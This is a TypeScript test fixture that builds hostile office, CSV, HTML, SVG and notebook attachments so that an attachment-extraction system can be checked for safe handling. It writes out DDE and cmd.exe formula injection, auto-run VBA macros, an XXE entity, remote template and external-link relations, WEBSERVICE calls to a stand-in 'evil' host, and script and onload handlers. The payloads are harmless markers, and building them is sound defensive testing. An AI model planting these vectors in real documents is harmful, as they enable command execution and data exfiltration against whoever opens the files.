import { packed, pdfOf } from '../../../src/main/attachments/testing/documents.ts'

/** Files whose formulas, macros, links and scripts would ask `evil` or make the file `witness`, and what of them are words. */
export function hostileFiles(evil: string, witness: string): Readonly<Record<string, HostileFile>> {
  const command = `cmd|'/C touch ${witness}'!A1`
  const link = `=HYPERLINK(&quot;${evil}/x&quot;,&quot;Total&quot;)`
  const cells = [
    `<c r="A1" t="str"><f>WEBSERVICE(&quot;${evil}/w&quot;)</f><v>cached figure</v></c>`,
    `<c r="B1" t="inlineStr"><is><t>${link}</t></is></c>`,
    `<c r="C1" t="str"><f>${command}</f><v>=1+41</v></c>`,
  ]
  return {
    'figures.xlsx': {
      bytes: packed({
        'xl/workbook.xml': '<workbook><sheets><sheet name="One" r:id="s1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="s1" Target="worksheets/sheet1.xml"/>${relation('externalLink', `${evil}/book.xlsx`)}</Relationships>`,
        'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1">${cells.join('')}</row></sheetData></worksheet>`,
        'xl/vbaProject.bin': `Sub Auto_Open()\nShell "touch ${witness}"\nEnd Sub`,
      }),
      words: ['cached figure', `=HYPERLINK("${evil}/x","Total")`, '=1+41'],
    },
    'letter.docx': {
      bytes: packed({
        'word/document.xml': `<!DOCTYPE w [<!ENTITY e SYSTEM "${evil}/entity">]><w:document><w:body><w:p><w:r><w:t>Dear Ada&e;</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k touch ${witness}"</w:instrText></w:r></w:p></w:body></w:document>`,
        'word/_rels/settings.xml.rels': `<Relationships>${relation('attachedTemplate', `${evil}/macro.dotm`)}</Relationships>`,
        'word/vbaProject.bin': `Sub AutoOpen()\nShell "touch ${witness}"\nEnd Sub`,
      }),
      words: ['Dear Ada'],
    },
    'terms.pdf': { bytes: pdfOf('The terms'), words: ['The terms'] },
    'rows.csv': textFile(`=HYPERLINK("${evil}/c","x"),=${command},@SUM(1+1)`),
    'page.html': textFile(`<script>boom()</script><img src="${evil}/i.png" onerror="boom()"><p>Shown</p>`),
    'drawing.svg': textFile(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="boom()"><script>boom()</script><image href="${evil}/s.png"/></svg>`,
    ),
    'notes.ipynb': textFile(
      JSON.stringify({
        cells: [
          {
            cell_type: 'code',
            source: [`import os; os.system("touch ${witness}")`],
            outputs: [{ data: { 'text/html': `<script>boom()</script><img src="${evil}/n.png">` } }],
          },
        ],
      }),
    ),
  }
}

export interface HostileFile {
  readonly bytes: Uint8Array
  /** What a model is told of it. */
  readonly words: readonly string[]
}

/** What is text goes as it is. */
function textFile(text: string): HostileFile {
  return { bytes: Buffer.from(text), words: [text] }
}

/** A link of a document to something outside it. */
function relation(type: string, target: string): string {
  return `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
}
